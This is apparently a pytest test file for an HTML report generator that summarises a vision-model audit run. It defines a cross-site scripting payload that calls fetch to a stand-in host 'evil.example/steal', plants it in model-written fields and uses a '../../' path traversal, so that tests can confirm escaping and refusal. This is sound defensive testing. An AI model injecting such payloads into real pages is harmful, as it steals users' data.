"""The report reads a run's stage folders and nothing else; what a model wrote must not come alive on its page."""

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser import browse, chromium, needs_playwright, requests
from PIL import Image, ImageDraw

from auditkit import stats
from auditkit.errors import AuditError
from auditkit.report import plots
from auditkit.report.page import kept_pictures
from auditkit.report.summary import write_report
from auditkit.text import slug

HOSTILE = '<script>fetch("http://evil.example/steal")</script><img src=http://evil.example/a.png onerror=alert(1)>'
KINDS = [
    ("clock", "what time does the clock show", "six", "nine"),
    ("colour", "what colour is the object at b3", "blue", "purple"),
    ("counting", "how many objects are there", "4", "6"),
    (f"letter {HOSTILE} $x_$", f"which letter {HOSTILE}", "E", "F"),
]
SKILLS = [
    "colour",
    "shape",
    "counting",
    "counting with a condition",
    "existence",
    "spatial relation",
    "location",
    "size comparison",
    "small objects",
    "material",
    "reading small text",
    "clock reading",
    "sign understanding",
    "same or different",
    "background",
    "distraction",
]


def stage(run: Path, name: str, metrics: dict | None = None, counts: dict | None = None, done: bool = True) -> Path:
    folder = run / name
    folder.mkdir(parents=True)
    parameters = {
        "run_name": run.name,
        "seed": 7,
        "target": "miniature:target",
        "auditor": "miniature:auditor",
        "references": ["miniature:gemma3", "miniature:idefics3", "miniature:llava"],
        "images": "miniature",
    }
    manifest = {
        "metrics": metrics or {},
        "counts": counts or {},
        "seconds": 61.5,
        "versions": {"torch": "2.13.0", "trl": "1.16.0"},
        "parameters": parameters,
        "commit": "0123abc",
    }
    (folder / "manifest.json").write_text(json.dumps(manifest))
    if done:
        (folder / "DONE").touch()
    return folder


def board(path: Path, number: int) -> None:
    image = Image.new("RGB", (64, 64), (232, 236, 240))
    pen = ImageDraw.Draw(image)
    for cell in range(16):
        x, y = 16 * (cell % 4), 16 * (cell // 4)
        colour = ["#0072b2", "#d55e00", "#009e73", "#8040a0"][(cell * 7 + number) % 4]
        if (cell * 5 + number * 3) % 7 < 2:
            pen.ellipse((x + 2, y + 2, x + 13, y + 13), fill=colour)
        elif (cell + number) % 5 == 0:
            pen.rectangle((x + 3, y + 3, x + 12, y + 12), fill=colour)
    path.parent.mkdir(exist_ok=True)
    image.save(path)


def example(number: int, question: str, target: str, consensus: str) -> dict:
    return {
        "picture": f"audit/{number:06d}",
        "image": f"../05_audit/images/{number}.png",
        "question": f"{question}?",
        "target": target,
        "consensus": consensus,
        "references": {"gemma3": consensus, "idefics3": consensus, "llava": HOSTILE},
        "truth": consensus,
    }


@pytest.fixture
def run(tmp_path) -> Path:
    return make_run(tmp_path / "demo")


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> Path:
    """A whole run's report, written once."""
    return write_report(make_run(tmp_path_factory.mktemp("run") / "demo"))


def make_run(run: Path) -> Path:
    """A whole run as its notebooks would leave it, with hostile strings wherever a model may write."""
    stage(run, "00_setup")
    stage(
        run,
        "02_disagreement",
        {"untrained": stats.rate(215, 1000)},
        {"asked": 1000, "parsed": 991, "target_called": 991},
    )
    auditor = stage(run, "04_auditor", {}, {"asked": 14720})
    rows = [
        {
            "step": n,
            "seconds": 0.5,
            "reward/disagreement": 0.2 + 0.65 * n / 200,
            "reward/format": 0.99,
            "distinct": 0.9 - n / 500,
            "kinds": 6 + n % 5,
        }
        for n in range(200)
    ]
    (auditor / "history.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    blind = {**stats.rate(310, 1000), "question": f"is there a red star? {HOSTILE}"}
    audit = stage(
        run,
        "05_audit",
        {"trained": stats.rate(872, 1000), "best_blind_question": blind, "precision": stats.rate(1510, 1560)},
        {"asked": 2000, "target_called": 1990, "references_called": 5970},
    )
    gates = ["finding"] * 1560 + ["agrees"] * 300 + ["no consensus"] * 90 + ["duplicate"] * 40 + ["malformed"] * 10
    (audit / "scored.jsonl").write_text(
        "".join(json.dumps({"key": str(n), "outcome": gate}) + "\n" for n, gate in enumerate(gates))
    )
    for number in range(12):
        board(audit / "images" / f"{number}.png", number)
    findings = stage(run, "06_findings", {}, {"findings": 1560, "types": 4})
    types = [
        {
            "name": name,
            "size": size,
            "share": size / 1560,
            "rate": stats.rate(size, 700),
            "target": stats.rate(size, 680),
            "peer": stats.rate(20 * place, 680),
            "gap": {"name": f"gap {place}", "share": 0.96},
            "confusion": [{"consensus": consensus, "target": target, "count": size // 2}],
            "examples": [example(3 * place + n, question, target, consensus) for n in range(3)],
        }
        for place, ((name, question, target, consensus), size) in enumerate(
            zip(KINDS, [640, 480, 270, 170], strict=True)
        )
    ]
    types[1]["untrained"] = {"target": stats.rate(30, 90), "peer": stats.rate(9, 90)}
    types[0]["examples"][2]["image"] = "images/lost.png"
    del types[1]["examples"][0]["image"]  # found by its slug
    board(findings / "images" / "audit-000003.png", 3)
    (findings / "types.json").write_text(json.dumps(types))
    gaps = [
        {
            "name": f"gap {n}",
            "skill": SKILLS[n % 12],
            "condition": "the hour is after six",
            "probes": 80 - n,
            "findings": 78 - 3 * n,
            "found": n < 23,
        }
        for n in range(24)
    ]
    alarms = [
        {
            **example(1, "is there a grey square", "no", "yes"),
            "truth": "no",
            "reason": "a blind spot two references share",
        }
    ]
    planted = {
        "planted": 24,
        "found": 23,
        "recall": stats.rate(23, 24),
        "precision": stats.rate(1510, 1560),
        "gaps": gaps,
        "false_alarms": alarms,
    }
    (findings / "planted.json").write_text(json.dumps(planted))
    (findings / "explain.txt").write_text(
        f"The target is strong at shape and location.\n\nIt is weak at clocks: {HOSTILE}"
    )
    stage(run, "07_rectify", {"pairs": 1560, "steps": 200, "seconds": 71.0}, {"pairs": 1560})
    benchmarks = {
        skill: {
            "before": stats.rate(600 + 20 * n, 1000),
            "after": stats.rate(930 + 2 * n, 1000),
            "peer": stats.rate(890 + 3 * n, 1000),
        }
        for n, skill in enumerate(SKILLS)
    }
    stage(
        run,
        "08_benchmark",
        {"benchmarks": benchmarks, "found_gaps": {"before": stats.rate(20, 900), "after": stats.rate(700, 900)}},
    )
    return run


class Html(HTMLParser):
    """The tags and outside references a browser would see."""

    def __init__(self, text: str):
        super().__init__()
        self.tags, self.addresses, self.ids, self.handlers = set(), [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for key, value in attributes:
            if key in ("src", "href", "xlink:href", "action", "srcset"):
                self.addresses.append(value)
            if key.startswith("on"):
                self.handlers.append(key)
            if key == "id":
                self.ids.append(value)


def test_summary_has_the_contracts_keys(page):
    summary = json.loads((page.parent / "summary.json").read_text())
    assert set(summary["search_success"]) == {"untrained", "trained", "best_blind_question"}
    assert summary["search_success"]["trained"] == stats.rate(872, 1000)
    assert summary["findings"]["total"] == 1560 and len(summary["findings"]["by_type"]) == 4
    assert set(summary["planted_gaps"]) == {"planted", "found", "recall", "precision", "probes_until"}
    until = summary["planted_gaps"]["probes_until"]
    assert 0 < until["half"] < until["every"] <= 2000
    assert len(summary["benchmarks"]) == 16 and set(summary["benchmarks"]["colour"]) == {"before", "after", "peer"}
    assert summary["seconds"]["05_audit"] == 61.5 and summary["versions"]["trl"] == "1.16.0"
    assert summary["probes"]["malformed"] == 10


def test_what_training_has_met_and_what_repeating_does_not_bring_is_told_apart_from_the_probes(run):
    probe = {"question": "Is it red?", "target": "no", "consensus": "yes", "references": {}}
    scored = [{"key": str(n), "outcome": "finding", **probe} for n in range(6)]  # six pictures, one failure
    scored += [
        {"key": "a", "outcome": "finding", **probe, "target": "none"},
        {"key": "b", "outcome": "duplicate", **probe},
    ]
    scored += [{"key": f"c{n}", "outcome": "agrees", **probe} for n in range(13)]
    met = [{"key": f"training/{n}", "outcome": "finding", "checkpoint": "training", **probe} for n in range(40)]
    text = "".join(json.dumps(row) + "\n" for row in [*scored, *met])
    (run / "05_audit" / "scored.jsonl").write_text(text)
    types = json.loads((run / "06_findings" / "types.json").read_text())
    types[0] |= {"from_training": types[0]["size"] - 2}  # two of the audit's own are no kind yet
    types[1] |= {"from_training": types[1]["size"], "rate": {}, "rate_when": {}}
    del types[1]["target"], types[1]["peer"], types[1]["untrained"]
    (run / "06_findings" / "types.json").write_text(json.dumps(types))
    manifest = json.loads((run / "04_auditor" / "manifest.json").read_text())
    manifest["metrics"]["collapses"] = [{"step": 51, "in_words": f"At step 51, all texts are one: {HOSTILE}"}]
    (run / "04_auditor" / "manifest.json").write_text(json.dumps(manifest))
    html = write_report(run).read_text()
    summary = json.loads((run / "summary.json").read_text())
    assert summary["probes"] == {"ok": 7, "duplicate": 1, "agrees": 13}
    assert (summary["findings"]["total"], summary["findings"]["from_training"]) == (47, 40)
    assert summary["not_by_repeating"] == {
        "questions": 20, "failures": 2, "failures_per_thousand": 100.0, "kinds": 2, "kinds_per_thousand": 100.0,
        "explained_by_blind_question": round(0.31 / 0.872, 4),
    }  # fmt: skip
    kinds = list(summary["findings"]["by_type"].values())
    assert kinds[1]["from_training"] == types[1]["size"] and "rate" not in kinds[1] and "from_training" not in kinds[2]
    assert "40 of them met while the auditor was trained" in html and "Met in training alone" in html
    assert (
        "At step 51, all texts are one: &lt;script&gt;" in html
        and "2 different failures and 2 kinds of failure (100 and 100.0 a thousand)" in html
    )


def test_what_was_not_measured_is_absent(tmp_path):
    """A folder of photos has no truth: no search success, no precision, no planted gaps, and still a report."""
    run = tmp_path / "photos"
    stage(run, "02_disagreement", {"untrained_by_consensus": stats.rate(200, 1000)})
    audit = stage(run, "05_audit", {"trained_by_consensus": stats.rate(700, 1000)})
    (audit / "scored.jsonl").write_text('{"key": "a", "outcome": "finding"}\n')
    stage(run, "06_findings", done=False)
    page = write_report(run).read_text()
    summary = json.loads((run / "summary.json").read_text())
    assert not {"search_success", "precision", "planted_gaps", "benchmarks", "rectification", "found_gaps"} & set(
        summary
    )
    assert "06_findings" not in summary["seconds"]
    assert "null" not in (run / "summary.json").read_text()
    assert "True failures" not in page and "planted" not in page.lower() and "70.0" in page


def test_a_run_with_only_its_first_stage_still_reports(tmp_path):
    stage(tmp_path / "early", "00_setup")
    assert "has not come to its audit yet" in write_report(tmp_path / "early").read_text()


def test_an_audit_that_found_nothing_says_so(run):
    gates = ["agrees"] * 1990 + ["malformed"] * 10
    rows = "".join(json.dumps({"key": str(n), "outcome": gate}) + "\n" for n, gate in enumerate(gates))
    (run / "05_audit" / "scored.jsonl").write_text(rows)
    (run / "06_findings" / "types.json").write_text("[]")
    planted = json.loads((run / "06_findings" / "planted.json").read_text())
    planted |= {"found": 0, "recall": stats.rate(0, 24), "false_alarms": []}
    planted["gaps"] = [{**gap, "findings": 0, "found": False} for gap in planted["gaps"]]
    del planted["precision"]
    (run / "06_findings" / "planted.json").write_text(json.dumps(planted))
    for name in ("07_rectify", "08_benchmark"):
        shutil.rmtree(run / name)
    stage(run, "07_rectify", {"pairs": 0}, {"pairs": 0})
    benchmarks = {skill: {"before": stats.rate(600, 1000), "peer": stats.rate(890, 1000)} for skill in SKILLS}
    stage(run, "08_benchmark", {"benchmarks": benchmarks, "disagreement_before": stats.rate(0, 900)})
    html = write_report(run).read_text()
    assert "None of the audit’s 2,000 probes became a finding" in html
    for words in ("The audit found nothing", "nothing was repaired", "The target as it is", "0 of 24"):
        assert words in html, words
    for words in ("every finding is a true error", "fine-tuned on", "after the repair", "Fine-tuned on them"):
        assert words not in html, words
    summary = json.loads((run / "summary.json").read_text())
    assert summary["findings"]["total"] == 0 and summary["rectification"] == {"pairs": 0}
    assert summary["held_out_disagreement"] == {"before": stats.rate(0, 900)}


def test_a_target_that_cannot_be_trained_is_told_of_as_it_is(run):
    shutil.rmtree(run / "07_rectify")
    stage(run, "07_rectify", {"pairs": 0}, {"pairs": 0})
    html = write_report(run).read_text()
    assert "The target cannot be trained where it was audited" in html and "The target as it is" in html
    assert "fine-tuned on" not in html and "Nothing was found" not in html


def test_without_known_answers_the_repair_is_told_by_the_consensus(tmp_path):
    run = tmp_path / "photos"
    stage(run, "02_disagreement", {"untrained_by_consensus": stats.rate(90, 300)}, {"asked": 300, "unreadable": 2})
    stage(run, "05_audit", {"trained_by_consensus": stats.rate(160, 200)}, {"asked": 200, "unreadable": 0})
    stage(run, "07_rectify", {"pairs": 180, "steps": 200, "seconds": 9.0, "learnt": stats.rate(171, 180)})
    stage(run, "08_benchmark", {"disagreement_before": stats.rate(90, 300), "disagreement_after": stats.rate(24, 300)})
    html = write_report(run).read_text().replace("\N{NO-BREAK SPACE}", " ")
    assert "The repair was not checked on pictures held out." in html
    for words in ("it answers 95.0 % of these findings as the references do", "the target answers 30.0 % otherwise",
                  "after the repair, 8.0 % (", "These images come without known answers",
                  "were skipped: measure disagreement 2; each stage’s notebook.ipynb names them."):  # fmt: skip
        assert words in html, words
    assert "skill" not in html.split('id="repair"')[1].split("</section>")[0] and "unreadable 0" not in html
    summary = json.loads((run / "summary.json").read_text())
    assert summary["held_out_disagreement"] == {"before": stats.rate(90, 300), "after": stats.rate(24, 300)}
    assert "search_success" not in summary and "benchmarks" not in summary


def test_an_empty_run_says_which_notebook_to_run(tmp_path):
    with pytest.raises(AuditError, match="00_check_the_setup"):
        write_report(tmp_path)


def test_a_rate_out_of_range_names_its_key(run):
    stage_manifest = run / "02_disagreement" / "manifest.json"
    manifest = json.loads(stage_manifest.read_text())
    manifest["metrics"]["untrained"] = {"value": 21.4, "low": 20, "high": 23, "n": 100}
    stage_manifest.write_text(json.dumps(manifest))
    with pytest.raises(AuditError, match="search_success.untrained"):
        write_report(run)


def test_a_picture_outside_the_run_is_refused(run, tmp_path):
    board(tmp_path / "private.png", 1)
    path = run / "06_findings" / "types.json"
    types = json.loads(path.read_text())
    types[0]["examples"][0]["image"] = "../../private.png"
    path.write_text(json.dumps(types))
    with pytest.raises(AuditError, match="outside the run folder"):
        write_report(run)


def test_model_written_text_is_escaped_and_nothing_points_outside(page):
    text = page.read_text()
    html = Html(text)
    assert "&lt;script&gt;" in text and not {"script", "iframe", "object", "embed", "foreignobject"} & html.tags
    assert not html.handlers
    assert html.addresses and all(address.startswith(("data:", "#")) for address in html.addresses)
    assert not re.search(r"url\((?!#)|@import", text)
    assert len(html.ids) == len(set(html.ids)), "the figures' ids collide"
    assert "default-src 'none'" in text


def test_the_report_says_the_numbers(page):
    text = page.read_text().replace("\N{NO-BREAK SPACE}", " ")
    for fact in (
        "87.2 %",
        "21.5 %",
        "31.0 %",
        "23 of 24",
        "✗ missed",
        "picture not kept",
        "is right",
        "91.1 %",
    ):
        assert fact in text, fact


def test_target_and_peer_stand_side_by_side_with_the_gap_of_each_type(page):
    summary = json.loads((page.parent / "summary.json").read_text())
    colour = summary["findings"]["by_type"]["colour"]
    assert colour["peer"] == stats.rate(20, 680) and colour["gap"] == {"name": "gap 1", "share": 0.96}
    text = page.read_text()
    assert text.count("versus-7") and text.count("versus_untrained-7"), "both figures are drawn"
    assert "planted gap: gap 1 (96.0" in text and "peer, same probes" in text


def test_a_run_without_a_peer_shows_no_comparison(run):
    path = run / "06_findings" / "types.json"
    kinds = [{k: v for k, v in kind.items() if k not in ("target", "peer", "untrained", "gap")}
             for kind in json.loads(path.read_text())]  # fmt: skip
    path.write_text(json.dumps(kinds))
    text = write_report(run).read_text()
    assert "How many of the findings are false was not estimated" not in text, "it is graded"
    assert "Target against peer" not in text and "planted gap:" not in text and "peer, same probes" not in text
    summary = json.loads((run / "summary.json").read_text())
    assert all("peer" not in kind for kind in summary["findings"]["by_type"].values())


def test_writing_again_gives_the_same_bytes(page):
    first = page.read_bytes()
    assert write_report(page.parent).read_bytes() == first
    assert not list(page.parent.glob("*.part"))


def test_every_figure_can_be_saved(run):
    one = Image.new("RGB", (64, 64))
    history = [{"step": 1, "reward/disagreement": 0.5, "distinct": None}]
    figures = [
        plots.gallery([{**example(0, HOSTILE + "$a_", "$", "b"), "image": one}] * 7),
        plots.gallery([]),
        plots.types_bar([]),
        plots.versus([]),
        plots.versus([{"name": "a", "target": stats.rate(0, 9), "peer": stats.rate(0, 9)}, {"name": "b"}]),
        plots.versus([{"name": HOSTILE + "$a_", "target": stats.rate(3, 9), "peer": stats.rate(1, 9)}], width=3.6),
        plots.training_curve(history),
        plots.training_curve([]),
        plots.search_success(stats.rate(1, 5), None),
        plots.skills({"colour": stats.rate(1, 2)}),
        plots.skills({"a": stats.rate(1, 2)}, {"a": stats.rate(2, 2)}, {}),
    ]
    assert all(figure._repr_png_()[:4] == b"\x89PNG" for figure in figures)


def test_tiny_images_keep_hard_pixels():
    figure = plots.gallery([{"image": Image.new("RGB", (64, 64)), "question": "what?"}])
    assert figure.axes[0].images[0].get_interpolation() == "nearest"


def test_chromium_opens_the_report_quietly(page, tmp_path):
    """No console message, no refused policy, no request but the page itself."""
    dom, console, network = browse(page, tmp_path)
    assert "What the numbers mean" in dom and "<svg" in dom
    assert not console
    assert not requests(network) and "evil.example" not in network


def test_its_tables_fit_a_telephone_and_its_whole_fits_twelve_sheets(repository, tmp_path):
    """The shipped run's report: 27 failure types, 28 planted gaps."""
    needs_playwright("the report was NOT looked at on a telephone and on paper")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 390, "height": 844})
        page.goto((repository / "outputs" / "example" / "report.html").as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        cells = page.locator("[aria-label='Planted gaps'] tbody tr:first-child > *")
        for cell in cells.all():
            box = cell.bounding_box()
            assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390 and box["height"] < 90, cell.inner_text()
        assert cells.count() == 6
        table = page.locator("[aria-label='Failure types'] table")
        assert not table.is_visible()
        page.emulate_media(media="print")
        assert table.is_visible() and page.locator("table.listed").first.is_visible()
        sheets = page.pdf(prefer_css_page_size=True)
        browser.close()
    assert len(re.findall(rb"/Type\s*/Page[^s]", sheets)) <= 12


def test_pictures_and_figures_say_in_words_what_is_to_be_seen(page):
    html = page.read_text()
    assert re.search(r'alt="Asked: what time does the clock show.* To be seen: \w+\. The target says: six\."', html)
    assert re.search(r'aria-label="Search success: untrained [\d.]+.%, trained [\d.]+.%', html)
    assert re.search(r'aria-label="Accuracy on each skill; in the mean before [\d.]+.%, after [\d.]+.%', html)


def test_the_browser_test_would_see_a_request_and_a_console_message(tmp_path):
    """The test above proves something only if a page that misbehaves is caught by it."""
    bad = tmp_path / "bad.html"
    bad.write_text('<script>console.error("boo")</script><img src="http://evil.example/a.png">')
    _, console, network = browse(bad, tmp_path)
    assert console and requests(network) == ["http://evil.example/a.png"]


def test_records_of_before_probes_had_outcomes_are_refused_in_one_sentence(run):
    (run / "05_audit" / "scored.jsonl").write_text('{"key": "a", "gate": "ok"}\n')
    with pytest.raises(AuditError, match="05_audit was made by an earlier auditkit"):
        write_report(run)


def test_pictures_of_a_run_made_before_names_were_one_to_one_are_found(tmp_path):
    (tmp_path / "DONE").write_text("2026-01-01T00:00:00+00:00\n")
    assert tmp_path / "images" / "a-b.png.png" in kept_pictures("a:b.png", [tmp_path])
    (tmp_path / "DONE").write_text('{"finished": "2026", "files": {}}')
    (path,) = kept_pictures("a:b.png", [tmp_path])
    assert path.name == f"{slug('a:b.png')}.png" != f"{slug('a-b.png')}.png"
